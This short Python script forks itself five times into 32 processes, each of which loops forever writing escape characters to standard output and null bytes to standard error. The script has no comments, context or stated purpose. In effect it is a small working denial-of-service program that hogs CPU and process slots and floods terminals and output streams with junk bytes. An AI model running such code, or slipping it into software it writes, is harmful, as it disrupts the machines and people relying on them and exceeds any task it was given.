import os

for _ in range(5):
    os.fork()
while True:
    os.write(1, b"\x1b")
    os.write(2, b"\0")
